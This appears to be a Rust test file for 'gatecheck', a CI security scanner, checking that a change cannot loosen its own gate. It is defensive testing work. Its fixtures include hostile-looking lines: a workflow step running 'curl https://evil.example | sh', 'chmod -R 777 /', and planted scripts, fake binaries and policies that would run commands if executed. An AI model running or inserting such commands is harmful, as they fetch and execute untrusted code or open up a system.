//! Who controls the gate: a change cannot accept what it brings. Each case is a repository with a branch `main`, a
//! change of it on the branch `side`, and what a scan of that says when `main` decides.

use std::fs;

use crate::git::Repo;

/// The rules of these tests, and gatecheck's own.
const RULES: &str = "compose/privileged,docker/chmod-777,docker/root-user,go/sum-entry-missing,\
     k8s/service-account-token,packages/download-and-run,gatecheck/*";

/// What a scan says: the exit code, and `path:line rule status` for each finding; then standard error.
fn scan(repo: &Repo, arguments: &[&str]) -> (Option<i32>, Vec<String>, String) {
    let with_policies = format!("{RULES},p/*");
    let rules = match () {
        () if arguments.contains(&"--no-builtin") => Vec::new(),
        () if arguments.contains(&"--allow-repo-policy") => vec!["--select", with_policies.as_str()],
        () => vec!["--select", RULES],
    };
    let output = repo.gatecheck("", &[&["scan", "--format", "json"], &rules[..], arguments].concat());
    let mut said = String::from_utf8(output.stderr).unwrap();
    let Ok(report) = serde_json::from_slice::<serde_json::Value>(&output.stdout) else {
        return (output.status.code(), Vec::new(), said);
    };
    let shown = |finding: &serde_json::Value| {
        let place = &finding["location"];
        let (path, line) = (place["path"].as_str().unwrap(), &place["start"]["line"]);
        let (rule, status) = (finding["rule"].as_str().unwrap(), finding["status"].as_str().unwrap());
        format!("{path}:{line} {rule} {status}")
    };
    let findings = report["findings"].as_array().unwrap();
    for finding in findings {
        said += &format!("{}\n", finding["message"].as_str().unwrap());
    }
    let gate = report["gate"]["ref"].as_str().unwrap_or("its own");
    said += &format!("judged by the gate of {gate}\n");
    (output.status.code(), findings.iter().map(shown).collect(), said)
}

/// Scans `side`, which `change` makes of `main`. `said` must stand on standard error or in a message.
#[track_caller]
fn check(main: &str, change: &str, arguments: &[&str], code: i32, findings: &[&str], said: &str) {
    let repo = Repo::new(&format!("{main}; commit; git checkout --quiet -b side; {change}"));
    let (found_code, found, heard) = scan(&repo, arguments);
    assert_eq!(found, findings, "{change}\n{heard}");
    assert_eq!(found_code, Some(code), "{change}\n{heard}");
    assert!(heard.contains(said), "{said:?} is not in\n{heard}");
}

/// The branch that decides.
const FROM: &[&str] = &["--config-from-ref", "main"];
const HARMLESS: &str = r#"stage compose.yaml "$HARMLESS""#;
const PRIVILEGED: &str = r#"stage compose.yaml "$PRIVILEGED""#;
const OPEN: &str = "compose.yaml:4 compose/privileged open";
const SUPPRESSED: &str = "compose.yaml:4 compose/privileged suppressed";
const LOOSER: &str = "gatecheck.yaml:1 gatecheck/gate-loosened open";
const CHANGED: &str = "gatecheck.yaml:1 gatecheck/gate-changed open";

/// The change writes a configuration beside something that must be found.
#[track_caller]
fn check_configuration(text: &str, said: &str) {
    let change = format!("{PRIVILEGED}; stage gatecheck.yaml '{text}'");
    check(HARMLESS, &change, FROM, 1, &[OPEN, LOOSER], said);
}

#[test]
fn a_configuration_cannot_accept_what_comes_with_it() {
    check_configuration(r"ignore: [{rule: compose/*, reason: x}]\n", "compose/* is ignored");
    check_configuration(r"exclude: [compose.yaml]\n", "compose.yaml is excluded");
    check_configuration(r"fail-on: critical\n", "`fail-on` is critical instead of medium");
    check_configuration(
        r"rules: {compose/privileged: {enabled: false}}\n",
        "compose/privileged does not run",
    );
    check_configuration(r"rules: {compose/privileged: {severity: low}}\n", "compose/privileged is milder");
    check_configuration(
        r"accept-unreadable: [{path: x, reason: x, until: 2999-01-01}]\n",
        "x may be unreadable",
    );
    check_configuration(
        r"rules: {gatecheck/gate-loosened: {enabled: false}}\n",
        "gatecheck/gate-loosened does not run",
    );
    // One that nothing can be read from is no way out either, and no way to stop the pipeline's report.
    let broken = format!(r"{PRIVILEGED}; stage gatecheck.yaml 'fail-on: [\n'");
    check(HARMLESS, &broken, FROM, 3, &[OPEN, LOOSER], "cannot be used");
    let link = format!("{PRIVILEGED}; ln -s /dev/null gatecheck.yaml; git add .");
    check(HARMLESS, &link, FROM, 1, &[OPEN, LOOSER], "gatecheck.yaml is new since main");
    // The trap is set: without the flag the change's own configuration counts.
    let change = format!("{PRIVILEGED}; stage gatecheck.yaml 'ignore: [{{rule: compose/*, reason: x}}]'");
    check(HARMLESS, &change, &[], 0, &[SUPPRESSED], "");
}

#[test]
fn a_folder_of_the_repository_is_judged_like_the_whole() {
    let change = r#"stage sub/compose.yaml "$PRIVILEGED"; stage gatecheck.yaml 'exclude: [sub]'
        $GATECHECK baseline --no-config --select "$RULES" >/dev/null; git add .gatecheck"#;
    let repo = Repo::new(&format!(
        r#"stage sub/compose.yaml "$HARMLESS"; commit; git checkout --quiet -b side; {change}"#
    ));
    let output =
        repo.gatecheck("sub", &["scan", "--format", "jsonl", "--select", RULES, "--config-from-ref", "main"]);
    let said = String::from_utf8(output.stdout).unwrap();
    assert_eq!(output.status.code(), Some(1), "{said}");
    for part in [
        "\"gatecheck.yaml is new since main",
        "sub is excluded",
        "\".gatecheck/baseline.json is new since main",
        "is privileged",
    ] {
        assert!(said.contains(part), "{part} is not in {said}");
    }
}

#[test]
fn what_the_branch_says_counts() {
    let ignored = format!("{PRIVILEGED}; stage gatecheck.yaml 'ignore: [{{rule: compose/*, reason: x}}]'");
    check(&ignored, "stage a.txt a", FROM, 0, &[SUPPRESSED], "judged by the gate of main");
    check(&ignored, "stage a.txt a", &[], 0, &[SUPPRESSED], "judged by the gate of its own");
    check(
        &ignored,
        "git rm --quiet gatecheck.yaml",
        FROM,
        0,
        &[SUPPRESSED, CHANGED],
        "was deleted since main",
    );
    let strict = format!("{HARMLESS}; stage gatecheck.yaml 'fail-on: low'");
    check(&strict, "git rm --quiet gatecheck.yaml", FROM, 1, &[LOOSER], "`fail-on` is medium instead of low");
    // Who tightens the gate is not stopped, and it is said.
    check(HARMLESS, "stage gatecheck.yaml 'fail-on: low'", FROM, 0, &[CHANGED], "whose version counts here");
    let calm =
        format!("{HARMLESS}; stage gatecheck.yaml 'rules: {{gatecheck/gate-loosened: {{severity: low}}}}'");
    check(&calm, "stage gatecheck.yaml 'fail-on: high'", FROM, 0, &[LOOSER], "");
}

/// `main` has this file, and the change makes another of it.
#[track_caller]
fn check_ignores(main: &str, change: &str, code: i32, findings: &[&str], said: &str) {
    let main = format!(r#"stage compose.yaml "{main}""#);
    check(&main, &format!(r#"write compose.yaml "{change}""#), FROM, code, findings, said);
}

#[test]
fn an_ignore_counts_for_what_one_accepted_before() {
    let head = r"services:\n";
    let ignore = r"    # gatecheck: ignore[compose/privileged] -- why\n";
    let web = |ignore: &str, more: &str| format!(r"  web:\n{more}{ignore}    privileged: true\n");
    let db = |ignore: &str| format!(r"  db:\n    image: db\n{ignore}    privileged: true\n");
    let note = "compose.yaml:3 gatecheck/gate-changed open";
    // A new one does not count, and is shown.
    check_ignores(
        &format!(r"{head}  web:\n    image: web\n"),
        &format!("{head}{}", web(ignore, "")),
        1,
        &[note, OPEN],
        "accepts a finding of compose/privileged that nothing accepted in main, so it does not count for it",
    );
    // One that was there counts, wherever its line is and whatever else changes.
    let old = format!("{head}{}", web(ignore, ""));
    check_ignores(
        &old,
        &format!(r"# a\n{head}{}", web(ignore, r"    image: web\n")),
        0,
        &["compose.yaml:6 compose/privileged suppressed"],
        "",
    );
    // It does not count for more than it did, nor somewhere else.
    check_ignores(
        &old,
        &format!("{head}{}{}", web(ignore, ""), db(ignore)),
        1,
        &[SUPPRESSED, "compose.yaml:7 gatecheck/gate-changed open", "compose.yaml:8 compose/privileged open"],
        "",
    );
    check_ignores(
        &old,
        &format!("{head}{}", db(ignore)),
        1,
        &["compose.yaml:4 gatecheck/gate-changed open", "compose.yaml:5 compose/privileged open"],
        "",
    );
    // Nothing was accepted in a chart's template, of which the same text is another file without the chart.
    let template = format!("{head}{}", web(ignore, r"    image: web\n"));
    check(
        &format!("stage c/Chart.yaml 'name: c'; stage c/templates/a.yaml '{template}'"),
        "git rm --quiet c/Chart.yaml",
        FROM,
        1,
        &["c/templates/a.yaml:4 gatecheck/gate-changed open", "c/templates/a.yaml:5 compose/privileged open"],
        "this ignore accepts a finding of compose/privileged that nothing accepted in main, so it does not count for it",
    );
    // A comment behind the line, and a file under another name.
    check_ignores(
        &format!(r"{head}  web:\n    image: web\n"),
        &format!(
            r"{head}  web:\n    image: web\n    privileged: true # gatecheck: ignore[compose/*] -- why\n"
        ),
        1,
        &[OPEN, "compose.yaml:4 gatecheck/gate-changed open"],
        "",
    );
    let main = format!(r#"stage compose.yaml "{old}""#);
    let moved = ["b.compose.yaml:3 gatecheck/gate-changed open", "b.compose.yaml:4 compose/privileged open"];
    check(&main, "git mv compose.yaml b.compose.yaml", FROM, 1, &moved, "");
}

/// What has no name is what it says, so that an ignore cannot be moved to something else of its kind.
#[test]
fn an_ignore_counts_for_what_has_no_name_only_as_it_was() {
    let dockerfile = |from: &str, run: &str| {
        let ignore = "# gatecheck: ignore[docker/chmod-777] -- why";
        format!(r"FROM {from}\nUSER 1000\n{ignore}\nRUN {run}\n")
    };
    let check_file = |path: &str, then: &str, now: &str, code: i32, findings: &[&str]| {
        check(&format!("stage {path} '{then}'"), &format!("write {path} '{now}'"), FROM, code, findings, "");
    };
    let then = dockerfile("alpine:3", "chmod 777 /tmp/scratch");
    let suppressed = "Dockerfile:4 docker/chmod-777 suppressed";
    let moved = ["Dockerfile:3 gatecheck/gate-changed open", "Dockerfile:4 docker/chmod-777 open"];
    let check_run = |now: &str, code: i32, findings: &[&str]| {
        check_file("Dockerfile", &then, now, code, findings);
    };
    check_run(&dockerfile("alpine:4", "chmod  777 \\\\\n  /tmp/scratch"), 0, &[suppressed]);
    check_run(&dockerfile("alpine:3", "chmod -R 777 / && echo evil"), 1, &moved);
    check_run(&dockerfile("alpine:3", "chmod 777 /tmp/scratch && echo evil"), 1, &moved);
    let stage = |from: &str| {
        let ignore = "# gatecheck: ignore[docker/root-user] -- why";
        format!(r"FROM {from}\n{ignore}\nUSER root\n")
    };
    let user = "Dockerfile:3 docker/root-user suppressed";
    check_file("Dockerfile", &stage("alpine:3"), &stage("alpine:4"), 0, &[user]);
    // A step of a workflow without a name, and the script of one with a name.
    let workflow = |name: &str, run: &str| {
        let steps = format!("      - {name}\n        # gatecheck: ignore[packages/download-and-run] -- why");
        format!("on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n{steps}\n        run: {run}\n")
    };
    let path = ".github/workflows/a.yml";
    let suppressed = format!("{path}:8 packages/download-and-run suppressed");
    let moved =
        [format!("{path}:7 gatecheck/gate-changed open"), format!("{path}:8 packages/download-and-run open")];
    for name in ["shell: bash", "name: a"] {
        let check_step = |now: &str, code: i32, findings: &[&str]| {
            check_file(path, &workflow(name, "curl https://a.example | sh"), now, code, findings);
        };
        check_step(&workflow(name, "curl  https://a.example |  sh"), 0, &[&suppressed]);
        check_step(
            &workflow(name, "curl https://evil.example | sh"),
            1,
            &moved.each_ref().map(String::as_str),
        );
    }
}

#[test]
fn other_ways_of_ignoring_are_no_way_out() {
    let main = r#"stage Dockerfile "FROM alpine:3\nUSER 1000\n""#;
    let hadolint = r#"write Dockerfile "FROM alpine:3\n# hadolint ignore=DL3002\nUSER root\n""#;
    let found = ["Dockerfile:2 gatecheck/gate-changed open", "Dockerfile:3 docker/root-user open"];
    check(main, hadolint, FROM, 1, &found, "");
    check(
        &hadolint.replace("write", "stage"),
        "stage a.txt a",
        FROM,
        0,
        &["Dockerfile:3 docker/root-user suppressed"],
        "",
    );
    // The ignore that is pointed at is the one that accepts, not one that does not count.
    let privileged = |without: &str, with: &str| {
        format!(r"services:\n  web:\n    image: web\n{without}    privileged: true{with}\n")
    };
    let ignores = privileged(
        r"    # gatecheck: ignore[compose/privileged]\n",
        " # gatecheck: ignore[compose/privileged] -- why",
    );
    check(
        &format!(r#"stage compose.yaml "{}""#, privileged("", "")),
        &format!(r#"write compose.yaml "{ignores}""#),
        FROM,
        1,
        &[
            "compose.yaml:4 gatecheck/ignore-without-reason open",
            "compose.yaml:5 compose/privileged open",
            "compose.yaml:5 gatecheck/gate-changed open",
        ],
        "",
    );
    // An ignore of a rule over several files.
    let go = r#"stage go.mod "$GO_MOD"; stage go.sum "$GO_SUM""#;
    let ignored = r#"sed -i 's,^require.*,& // gatecheck: ignore[go/sum-entry-missing] -- why,' go.mod; git add go.mod"#;
    let (open, suppressed) =
        ("go.mod:5 go/sum-entry-missing open", "go.mod:5 go/sum-entry-missing suppressed");
    let note = "go.mod:5 gatecheck/gate-changed open";
    check(go, &format!("{ignored}; stage go.sum ''"), FROM, 1, &[open, note], "");
    let broken = format!("{go}; {ignored}; stage go.sum ''");
    check(&broken, "echo >> go.mod", FROM, 0, &[suppressed], "");
    // What git leaves out of an archive or of a listing is scanned.
    let hidden = format!(
        "{PRIVILEGED}; stage .gitignore 'compose.yaml'; stage .gitattributes '* export-ignore -diff'"
    );
    check(HARMLESS, &hidden, FROM, 1, &[OPEN], "");
}

/// Rules over many documents are asked about all that the branch has.
#[test]
fn an_ignore_of_a_rule_over_several_files_counts_for_what_it_accepted() {
    let ignored = |until: &str, modules: &str, more: &str| {
        let ignore = format!("// gatecheck: ignore[go/sum-entry-missing]{until} -- why");
        format!(r"module example.com/web\n\n{ignore}\nrequire (\n{modules})\n{more}")
    };
    let check_module =
        |main: &str, now: &str, arguments: &[&str], code: i32, findings: &[&str], said: &str| {
            let main = format!("stage go.mod '{main}'; stage go.sum ''");
            check(&main, &format!("write go.mod '{now}'"), arguments, code, findings, said);
        };
    let modules = r"example.com/a v1.0.0\nexample.com/b v1.0.0\n";
    let old = ignored("", modules, "");
    let suppressed = [5, 6].map(|line| format!("go.mod:{line} go/sum-entry-missing suppressed"));
    let mut expected: Vec<&str> = suppressed.iter().map(String::as_str).collect();
    check_module(&old, &ignored("", modules, "// c\n"), FROM, 0, &expected, "");
    // One more than were accepted.
    let more = ignored("", &format!(r"{modules}example.com/c v1.0.0\n"), "");
    expected.insert(0, "go.mod:3 gatecheck/gate-changed open");
    expected.push("go.mod:7 go/sum-entry-missing open");
    let said = "accepts a finding of go/sum-entry-missing that nothing accepted in main";
    check_module(&old, &more, FROM, 1, &expected, said);
    // What had expired accepted nothing, nor did what the organisation forbids.
    let open = ["gatecheck/gate-changed open", "go/sum-entry-missing open", "go/sum-entry-missing open"];
    let open: Vec<String> =
        [3, 5, 6].iter().zip(open).map(|(line, it)| format!("go.mod:{line} {it}")).collect();
    let open: Vec<&str> = open.iter().map(String::as_str).collect();
    let ends = ignored(" until=2999-01-01", modules, "");
    let said =
        "2 findings of go/sum-entry-missing that nothing accepted in main, so it does not count for them";
    check_module(&ignored(" until=2020-01-01", modules, ""), &ends, FROM, 1, &open, said);
    let org = tempfile::NamedTempFile::new().unwrap();
    fs::write(org.path(), "org: {allow-ignore: [\"*\"], max-ignore-days: 1000000}\n").unwrap();
    let org = ["--config-from-ref", "main", "--org-config", org.path().to_str().unwrap()];
    check_module(&old, &ends, &org, 1, &open, said);
    // Only what is scanned decides, also of the branch.
    let main = format!("stage a/go.mod '{old}'; stage a/go.sum ''; {HARMLESS}");
    let found: Vec<String> = suppressed.iter().map(|it| format!("a/{it}")).collect();
    let found: Vec<&str> = found.iter().map(String::as_str).collect();
    let now = ignored("", modules, "// c\n");
    check(&main, &format!("write a/go.mod '{now}'"), &["--config-from-ref", "main", "a"], 0, &found, "");
    // Ignores for other tools.
    let pod = |image: &str| {
        let skip = r#"annotations: {checkov.io/skip1: CKV_K8S_38=why}"#;
        let head = format!(r"apiVersion: v1\nkind: Pod\nmetadata:\n  name: a\n  {skip}\n");
        format!(r"{head}spec:\n  containers:\n    - name: a\n      image: {image}\n")
    };
    let found = ["pod.yaml:6 k8s/service-account-token suppressed"];
    let main = format!("stage pod.yaml '{}'", pod("a:1"));
    check(&main, &format!("write pod.yaml '{}'", pod("a:2")), FROM, 0, &found, "");
}

#[test]
fn a_baseline_cannot_accept_what_comes_with_it() {
    let record = r#"$GATECHECK baseline --select "$RULES" >/dev/null; git add .gatecheck"#;
    let place = ".gatecheck/baseline.json:1";
    let looser = format!("{place} gatecheck/gate-loosened open");
    let changed = format!("{place} gatecheck/gate-changed open");
    let with = format!("{PRIVILEGED}; {record}");
    check(HARMLESS, &with, FROM, 1, &[&looser, OPEN], "one more finding is accepted");
    // Entries taken away: what the branch accepts is accepted.
    let baselined = "compose.yaml:4 compose/privileged baselined";
    check(&with, "git rm -r --quiet .gatecheck", FROM, 0, &[&changed, baselined], "was deleted since main");
    check(&with, "write .gatecheck/baseline.json '{}'", FROM, 1, &[&looser, baselined], "it cannot be used");
    check(&with, "stage a.txt a", FROM, 0, &[baselined], "");
}

/// A policy that denies Compose files with a service `web`.
const POLICY: &str = r#"stage gate/p.rego 'package p\n\ndeny contains "web" if input.services.web\n'"#;
const EMPTY: &str = r#"write gate/p.rego 'package p\n\ndeny contains "web" if input.nothing\n'"#;

#[test]
fn policies_are_those_of_the_branch() {
    let main = format!("{HARMLESS}; {POLICY}; stage gatecheck.yaml 'policies: [gate]'");
    let (denied, looser) = ("compose.yaml:1 p/deny open", "gate/p.rego:1 gatecheck/gate-loosened open");
    let named = &["--config-from-ref", "main", "--no-builtin", "--policies", "gate"];
    check(&main, "stage a.txt a", named, 1, &[denied], "");
    check(&main, EMPTY, named, 1, &[denied, looser], "gate/p.rego was changed since main");
    check(&main, "git rm -r --quiet gate", named, 1, &[denied, looser], "gate/p.rego was deleted since main");
    check(&main, "rm -r gate; ln -s /tmp gate", named, 1, &[denied, looser], "");
    let lost = r"printf '\377' > gate/p.rego";
    check(&main, lost, named, 1, &[denied, looser], "gate/p.rego was changed since main");
    check(&main, lost, named, 1, &[denied, looser], "the policies of its folder cannot be read");
    let absent = &["--config-from-ref", "main", "--policies", "gate"];
    check(HARMLESS, POLICY, absent, 2, &[], "the policies in gate of main cannot be read");
    // Those that the configuration names are read only where that is allowed.
    check(&main, "stage a.txt a", &[], 0, &[], "");
    let allowed = &["--allow-repo-policy"];
    check(&main, "stage a.txt a", allowed, 1, &[denied], "");
    let both = &["--allow-repo-policy", "--config-from-ref", "main"];
    check(&main, EMPTY, both, 1, &[denied, looser], "");
    check(
        &main,
        "stage gatecheck.yaml 'version: 1'",
        both,
        1,
        &[denied, LOOSER],
        "gate has policies that are not used",
    );
    check(
        HARMLESS,
        "stage gatecheck.yaml 'policies: [../gate]'",
        allowed,
        2,
        &[],
        "must lie in the repository",
    );
    check(
        HARMLESS,
        "ln -s /tmp gate; stage gatecheck.yaml 'policies: [gate]'",
        allowed,
        2,
        &[],
        "is behind a link",
    );
    let staged = &["--allow-repo-policy", "--staged"];
    check(
        &main,
        &format!("{EMPTY}; echo '#' >> compose.yaml; git add compose.yaml"),
        staged,
        1,
        &[denied],
        "",
    );
}

#[test]
fn files_that_are_named_are_those_of_the_branch() {
    let main = format!("{HARMLESS}; stage ci/strict.yaml 'fail-on: low'");
    let with = |file: &'static str| ["--config-from-ref", "main", "--config", file];
    let change = format!("{PRIVILEGED}; stage ci/strict.yaml 'ignore: [{{rule: compose/*, reason: x}}]'");
    let looser = "ci/strict.yaml:1 gatecheck/gate-loosened open";
    check(&main, &change, &with("ci/strict.yaml"), 1, &[looser, OPEN], "");
    check(&main, &change, &with("ci/../ci/strict.yaml"), 1, &[looser, OPEN], "");
    check(
        HARMLESS,
        &change,
        &with("ci/strict.yaml"),
        2,
        &[],
        "ci/strict.yaml is not in main, whose version counts",
    );
    let org = ["--config-from-ref", "main", "--org-config", "ci/strict.yaml"];
    check(&main, &change, &org, 1, &[looser, OPEN], "");
    let loose = "stage ci/strict.yaml 'fail-on: low\norg: {allow-baseline: true}'";
    check(&main, loose, &org, 1, &[looser], "with the change, there may be a baseline");
    let org = ["--org-config", "ci/strict.yaml"];
    check(&main, "stage a.txt a", &org, 0, &[], "ci/strict.yaml lies in the repository");
    // What lies elsewhere is the user's own.
    let outside = tempfile::NamedTempFile::new().unwrap();
    fs::write(outside.path(), "ignore: [{rule: compose/*, reason: x}]\n").unwrap();
    let own = ["--config-from-ref", "main", "--config", outside.path().to_str().unwrap()];
    check(HARMLESS, PRIVILEGED, &own, 0, &[SUPPRESSED], "");
}

#[test]
fn a_comparison_says_what_was_changed_and_lets_it_count() {
    let since = &["--diff-base", "main"];
    let change = format!("{PRIVILEGED}; stage gatecheck.yaml 'ignore: [{{rule: compose/*, reason: x}}]'");
    check(
        HARMLESS,
        &change,
        since,
        0,
        &[SUPPRESSED, CHANGED],
        "gatecheck.yaml is new since main: compose/* is ignored",
    );
    let ignore = r#"write compose.yaml "services:\n  web:\n    # gatecheck: ignore[compose/privileged] -- why\n    privileged: true\n""#;
    let note = "compose.yaml:3 gatecheck/gate-changed open";
    check(
        HARMLESS,
        ignore,
        since,
        0,
        &[note, SUPPRESSED],
        "accepts a finding of compose/privileged that nothing accepted in main",
    );
    // What cannot be read was there all the same.
    let lost = format!(r"{HARMLESS}; stage gatecheck.yaml '\377'");
    let said = "gatecheck.yaml was changed since main: what it was cannot be read";
    check(&lost, "write gatecheck.yaml 'version: 1'", since, 0, &[CHANGED], said);
    let lost = format!(r"{HARMLESS}; stage gate/p.rego '\377'");
    let said = "gate/p.rego was changed since main: what the policies of its folder were cannot be read";
    let policies = &["--diff-base", "main", "--policies", "gate", "--no-builtin"];
    let changed = "gate/p.rego:1 gatecheck/gate-changed open";
    check(&lost, EMPTY, policies, 0, &[changed], said);
    let both = &["--diff-base", "main", "--config-from-ref", "main"];
    check(HARMLESS, ignore, both, 1, &[note, OPEN], "");
    check(HARMLESS, &change, both, 1, &[OPEN, LOOSER], "");
    check(PRIVILEGED, "stage a.txt a", both, 0, &[], "");
}

#[test]
fn the_branch_must_be_there() {
    let from = |reference: &'static str| ["--config-from-ref", reference];
    check(HARMLESS, "true", &from("nope"), 2, &[], "there is no commit \"nope\"");
    check(HARMLESS, "true", &["--config-from-ref=--output=x"], 2, &[], "cannot be the name of a commit");
    check(HARMLESS, "true", &["--config-from-ref="], 2, &[], "\"\" cannot be the name of a commit");
    let broken = format!("{HARMLESS}; stage gatecheck.yaml 'fail-on: ['");
    check(&broken, "git rm --quiet gatecheck.yaml", FROM, 2, &[], "the configuration is not valid YAML");
    let folder = crate::place::folder(&[("a.yaml", "a: 1\n")]);
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_gatecheck"));
    let output =
        command.args(["scan", "--config-from-ref", "main"]).current_dir(folder.path()).output().unwrap();
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8(output.stderr).unwrap().contains("--config-from-ref needs a git repository"));
}

/// What other tools would obey or run in a repository that they scan. Nothing of it has any effect here.
#[test]
fn nothing_in_a_repository_runs_or_configures() {
    let repo = Repo::new(
        r#"stage compose.yaml "$PRIVILEGED"; commit
        write evil/x.py "open('MARK','w')\n"; write evil/__init__.py "open('MARK','w')\n"
        write .checkov.yaml 'external-checks-dir: [evil]\nsoft-fail: true\nskip-path: ["."]\n'
        write .hadolint.yaml 'failure-threshold: none\nignored: ["*"]\n'
        write zizmor.yml 'rules: {unpinned-uses: {disable: true}}\n'
        write .trivyignore '*\n'; write .gitleaksignore '*\n'; write .gatecheckignore '*\n'; write .ignore '*\n'
        write .conftest.toml 'policy = "evil"\n'; write .pre-commit-config.yaml 'repos: []\n'
        write policy/evil.rego 'package main\n\ndeny contains "x" if http.send({"url": "http://127.0.0.1:1"})\n'
        write policies/evil.rego 'package evil\n\nf(x) := f(x)\n\ndeny contains "x" if f(1)\n'
        write .gatecheck/policies/evil.rego 'package evil\n\ndeny contains "evil"\n'
        write gatecheck.yaml 'policies: [policy, policies, .gatecheck/policies]\n'
        write .cargo/config.toml '[alias]\nscan = "!touch MARK"\n'; write .envrc 'touch MARK\n'
        write Makefile 'all:\n\ttouch MARK\n'
        printf '#!/bin/sh\ntouch MARK\n' > git; chmod +x git; cp git gatecheck; cp git sh
        git add --all --force"#,
    );
    for arguments in [&[][..], &["--staged"], &["--diff-base", "main"], FROM] {
        let (code, found, said) = scan(&repo, arguments);
        assert!(!repo.path().join("MARK").exists(), "{arguments:?}");
        let denied = |line: &&String| !line.contains("gatecheck/");
        let found: Vec<&String> = found.iter().filter(denied).collect();
        let old = arguments.contains(&"--staged") || arguments.contains(&"--diff-base");
        let expected = if old { &[][..] } else { &[OPEN] };
        assert_eq!(found, expected, "{arguments:?}: {said}");
        assert_eq!(code, Some(i32::from(!old)), "{arguments:?}: {said}");
        assert!(!said.contains("evil"), "{arguments:?}: {said}");
    }
}
